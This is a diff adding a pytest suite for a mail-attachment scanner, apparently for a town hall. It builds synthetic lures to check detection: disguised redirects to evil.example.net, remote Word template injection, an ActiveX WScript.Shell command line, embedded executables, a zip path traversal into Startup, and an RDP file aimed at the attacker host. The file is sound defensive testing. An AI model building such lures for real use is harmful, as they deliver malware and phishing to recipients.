@@ -1,0 +1,243 @@
+"""What lures of 2024 to 2026 carry in a file: each is held, or tells where it leads, or tells the file that stays the
+same when it is packed anew; what a town hall receives every week passes."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from base64 import b64encode
+from collections.abc import Callable
+from hashlib import sha256
+
+import pytest
+from beffroi.scan import kinds, looking, rules, values
+from beffroi.scan.values import Report
+
+from tests import scan_samples as samples
+from tests.mail_files import EXE, LNK, packed
+
+RULES = rules.Rules({rules.OWN: rules.own()})
+EVIL = "https://evil.example.net/go/abc"
+IN_BASE64 = b64encode(EVIL.encode()).decode()
+SCRIPT = b"new ActiveXObject('WScript.Shell').Run('cmd /c x');"
+DRAWN = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>%s</svg>"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def look(data: bytes) -> Report:
+    return looking.examine(data, RULES.matches)
+
+
+def digest(data: bytes) -> str:
+    return sha256(data).hexdigest()
+
+
+def page(script: str) -> bytes:
+    return f"<html><script>{script}</script></html>".encode()
+
+
+def tied(kind: str, target: str) -> bytes:
+    tag = f'<Relationship Id="r1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="External"/>'
+    return f"<Relationships>{tag}</Relationships>".encode()
+
+
+def with_template(target: str) -> bytes:
+    return samples.docx(**{"word/_rels/settings__xml__rels": tied("attachedTemplate", target)})
+
+
+def calendar(line: str) -> bytes:
+    return f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:1\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()
+
+
+def pressed(action: str) -> bytes:
+    return samples.pdf(page=f"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A<<{action}>>>>]")
+
+
+def zipped(*files: tuple[str, bytes], day: int = 1) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files:
+            archive.writestr(zipfile.ZipInfo(name, (2026, 1, day, 0, 0, 0)), content)
+    return out.getvalue()
+
+
+LEADS: dict[str, bytes] = {
+    "page, another word": page(f"window.location.replace('{EVIL}')"),
+    "page, a name for it": page(f'var u="{EVIL}"; window.open(u)'),
+    "page, slashes hidden": page("open('" + EVIL.replace("/", "\\/") + "')"),
+    "page, in base64": page(f"location.assign(atob('{IN_BASE64}'))"),
+    "page in UTF-16": page(f"location=atob('{IN_BASE64}')").decode().encode("utf-16"),
+    "page, in a frame": f"<html><iframe width=9 src='{EVIL}'></iframe></html>".encode(),
+    "page, in a page in base64": page(
+        f"document.write(atob('{b64encode(page(f'location={EVIL!r}') + b' ' * 60).decode()}'))"
+    ),
+    "page, on a click": f"<html><p onclick=\"open('{EVIL}')\">Voir</p></html>".encode(),
+    "drawing": (DRAWN % f"<script><![CDATA[window.location.href='{EVIL}']]></script>").encode(),
+    "drawing, in base64": (DRAWN % f"<script>location=atob('{IN_BASE64}')</script>").encode(),
+    "drawing, a frame": (DRAWN % f"<foreignObject><iframe src='{EVIL}'/></foreignObject>").encode(),
+    "appointment": calendar(f"URL:{EVIL}"),
+    "appointment, folded": calendar(f"DESCRIPTION:Rejoindre : {EVIL[:20]}\r\n {EVIL[20:]}\\, merci"),
+    "appointment, a page": calendar(f"X-ALT-DESC;FMTTYPE=text/html:<a href={EVIL}>Voir</a>"),
+    "contact": f"BEGIN:VCARD\r\nVERSION:3.0\r\nURL:{EVIL}\r\nEND:VCARD\r\n".encode(),
+    "rtf": f'{{\\rtf1{{\\field{{\\*\\fldinst HYPERLINK "{EVIL}"}}{{\\fldrslt Ouvrir}}}}}}'.encode(),
+    "document, a field": samples.docx(
+        **{"word/document__xml": f'<w:instrText> HYPERLINK "{EVIL}" </w:instrText>'.encode()}
+    ),
+    "document, a field in pieces": samples.docx(
+        **{"word/header1__xml": f"<w:instrText> HYPER</w:instrText><w:instrText>LINK &quot;{EVIL}&quot;</w:instrText>".encode()}
+    ),
+    "table, a formula": samples.xlsx(
+        **{"xl/worksheets/sheet1__xml": f'<c><f>HYPERLINK("{EVIL}","Voir")</f></c>'.encode()}
+    ),
+    "table of the web": samples.xlsx(
+        **{"xl/externalLinks/_rels/a__rels": tied("externalLinkPath", EVIL)}
+    ),
+    "pdf, a form": pressed(f"/S/SubmitForm/F<</FS/URL/F({EVIL})>>"),
+    "pdf, a script": pressed(f"/S/JavaScript/JS(app.launchURL\\('{EVIL}'\\))"),
+    "mail of Outlook": samples.ole({"__substg1.0_1000001F": f"Voir {EVIL} ".encode("utf-16-le")}),
+    "mail of Outlook, a page": samples.ole({"__substg1.0_10130102": f"<a href='{EVIL}'>Voir</a>".encode()}),
+}  # fmt: skip
+HELD: dict[str, tuple[bytes, str]] = {
+    "page with a program": (
+        page(f"a.download='Facture.exe'; d='{b64encode(EXE).decode()}'"),
+        kinds.PROGRAM,
+    ),
+    "page with an archive": (page(f"d='{b64encode(packed(a__js=SCRIPT)).decode()}'"), kinds.PROGRAM),
+    "page in a frame": (b"<html><iframe src=https://evil.example.net></iframe></html>", kinds.ACTIVE_PAGE),
+    "appointment with a script": (
+        calendar(f"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.js:{b64encode(SCRIPT).decode()}"),
+        kinds.PROGRAM,
+    ),
+    "rtf with a package": (
+        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000\r\n%s}}}"
+        % samples.package("run.exe", EXE).hex().encode(),
+        kinds.PROGRAM,
+    ),
+    "template in another spelling": (
+        samples.docx(
+            **{
+                "word/_rels/settings__xml__rels": f"<Relationship TargetMode = 'External' Target = '&#104;ttps:{EVIL[6:]}'"
+                f" Type='{OFFICE}attachedTemplate'/>".encode()
+            }
+        ),
+        kinds.MALWARE,
+    ),
+    "template in UTF-16": (
+        samples.docx(
+            **{"word/_rels/settings__xml__rels": tied("attachedTemplate", EVIL).decode().encode("utf-16")}
+        ),
+        kinds.MALWARE,
+    ),
+    "template of a share": (with_template("file:///\\\\evil.example.net@80\\x.dotm"), kinds.MALWARE),
+    "template of a number": (with_template("http://3232235777/x.dotm"), kinds.MALWARE),
+    "template of rtf": (f"{{\\rtf1{{\\*\\template {EVIL}}}x}}".encode(), kinds.MALWARE),
+    "template in one XML": (
+        b"<?xml version='1.0'?><pkg:package>" + tied("attachedTemplate", EVIL) + b"</pkg:package>",
+        kinds.MALWARE,
+    ),
+    "template of SharePoint": (with_template("https://x.sharepoint.com/sites/a/m.dotm"), kinds.MACRO),
+    "archive that nothing reads: arj": (b"\x60\xea\x2a\x00\x22\x0b\x01\x0b" + bytes(90), kinds.UNREADABLE),
+    "archive that nothing reads: ace": (bytes(7) + b"**ACE**" + bytes(90), kinds.UNREADABLE),
+    "lz4": (samples.made("ustar", "lz4", {"a.js": SCRIPT}), kinds.PROGRAM),
+    "compress": (samples.made("ustar", "compress", {"a.js": SCRIPT}), kinds.PROGRAM),
+    "uuencoded": (b"begin 644 a.js\r\n#0V%T\r\n`\r\nend\r\n", kinds.PROGRAM),
+    "another name before the file": (
+        packed(facture__js=SCRIPT).replace(b"facture.js", b"facture.md", 1),
+        kinds.PROGRAM,
+    ),
+    "a name that leads out": (zipped(("..\\..\\Startup\\a.txt", b"x")), kinds.DISGUISED),
+    "remote desktop": (packed(bureau__rdp=b"full address:s:evil.example.net\r\n"), kinds.PROGRAM),
+    "search": (zipped(("dossier.searchconnector-ms", b"<x/>")), kinds.PROGRAM),
+    "settings": (zipped(("a.settingcontent-ms", b"<x/>")), kinds.PROGRAM),
+}
+MADE_ANEW: dict[str, tuple[Callable[[int], bytes], bytes]] = {
+    "zip of another day": (lambda n: zipped(("scan.lnk", LNK), day=n), LNK),
+    "zip with decoys": (
+        lambda n: zipped(*((f"{m}.txt", b"%d %d " % (n, m) * 20) for m in range(60)), ("a.lnk", LNK)),
+        LNK,
+    ),
+    "document with macros": (
+        lambda n: samples.docx(
+            **{"word/document__xml": b"%d" % n, "word/vbaProject__bin": b"macro" * 30}
+        ),
+        b"macro" * 30,
+    ),
+    "attached mail": (
+        lambda n: samples.attached_mail(samples.part(SCRIPT, samples.named("a.js"))).replace(
+            b"Subject: x", b"Subject: %d" % n
+        ),
+        SCRIPT,
+    ),
+    "page that makes a file": (
+        lambda n: page(f"d='{b64encode(EXE).decode()}' // {n}"),
+        EXE,
+    ),
+    "pdf": (lambda n: samples.CARRIES + b"%% %d" % n, EXE),
+    "disk image": (lambda n: samples.made("iso9660", "none", {"a.lnk": LNK, f"{n}.txt": b"x"}), LNK),
+}  # fmt: skip
+WEEKLY: dict[str, bytes] = {
+    "template of this machine": with_template("file:///C:\\Users\\A.Dupont\\Templates\\Courrier.dotx"),
+    "template of the town hall's server": with_template("file:///\\\\SERVEUR\\modeles\\lettre.dotm"),
+    "template of that server, written shorter": with_template("\\\\SERVEUR\\modeles\\lettre.dotm"),
+    "template of a server with a name": with_template("file:///\\\\srv.mairie.lan\\modeles\\lettre.dotm"),
+    "template of a server with a number": with_template("\\\\192.168.1.10\\modeles\\lettre.dotm"),
+    "template of rtf": b"{\\rtf1{\\*\\template C:\\\\Modeles\\\\acte.dot}Acte}",
+    "linked table": samples.docx(
+        **{"word/_rels/document__xml__rels": tied("oleObject", "file:///\\\\SRV\\Compta\\Budget.v2.xlsx")}
+    ),
+    "rtf with a table": b"{\\rtf1{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata 01050000\r\n%s}}}"
+    % samples.workbook(0).hex().encode(),
+    "PES": b"<?xml version='1.0'?><n:PES_Aller><Fichier>H4sIAAAAAAAA/6tWqgUAQ7+mowIAAAA=</Fichier></n:PES_Aller>",
+    "plan": b"AC1032" + bytes(300),
+    "project of QGIS": packed(projet__qgs=b"<!DOCTYPE qgis><qgis/>", projet__qgd=b"SQLite format 3\0" + bytes(99)),
+    "parcels": packed(**{f"parcelles__{kind}": bytes(300) for kind in ("shp", "shx", "dbf", "prj", "cpg")}),
+    "7z of an architect": samples.made("7zip", "none", {"plan.dwg": b"AC1032", "notice.pdf": samples.pdf()}),
+    "signature": samples.signed(b""),
+    "export of TIPI": b"ID;nom;montant\r\n1;Dupont;12,50\r\n",
+    "contact with a photo": b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJ\r\n RgABAQ==\r\nEND:VCARD\r\n",
+    "coat of arms": (DRAWN % "<image xlink:href='data:image/png;base64,iVBORw0KGgo='/>").encode(),
+    "invoice with its XML": samples.CARRIES.replace(b"a.exe", b"f.xml").replace(EXE, b"<x>".ljust(len(EXE))),
+    "tar.gz of the land register": samples.made("ustar", "gzip", {"E0000A01.THF": b"x"}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LEADS)
+def test_where_a_lure_leads_is_told(name: str) -> None:
+    assert EVIL in look(LEADS[name]).links, look(LEADS[name])
+
+
+@pytest.mark.parametrize("name", HELD)
+def test_what_a_lure_carries_is_found(name: str) -> None:
+    data, code = HELD[name]
+    assert code in look(data).found, look(data)
+
+
+@pytest.mark.parametrize("name", MADE_ANEW)
+def test_of_what_is_packed_anew_for_each_reader_the_file_in_it_is_told(name: str) -> None:
+    made, carried = MADE_ANEW[name]
+    one, other = look(made(1)), look(made(2))
+    assert one.sha256 != other.sha256
+    assert digest(carried) in {*one.files} & {*other.files}
+
+
+@pytest.mark.parametrize("name", WEEKLY)
+def test_what_a_town_hall_receives_every_week_passes(name: str) -> None:
+    assert look(WEEKLY[name]).found == {}
+
+
+def test_of_many_files_those_count_first_in_which_something_was_found() -> None:
+    report = look(MADE_ANEW["zip with decoys"][0](1))
+    assert report.files[0] == digest(LNK) and len(report.files) == values.MAX_FILES
+
+
+def test_pictures_and_what_has_no_content_are_no_files_to_know_a_lure_by() -> None:
+    logo = b"\x89PNG\r\n\x1a\n" + bytes(400)
+    assert look(packed(logo__png=logo, vide__txt=b"", court__txt=b"x")).files == []
+
+
+def test_a_library_that_a_page_loads_and_the_name_of_a_format_are_no_places_that_it_leads_to() -> None:
+    loads = "load('https://cdn.example.net/jquery.min.js?v=3'); ns='http://www.w3.org/2000/svg'"
+    assert look(page(f'logo = "https://cdn.example.net/logo.png"; {loads}')).links == [
+        "http://www.w3.org/2000/svg"
+    ]
+    assert look((DRAWN % "<path/>").encode()).links == []
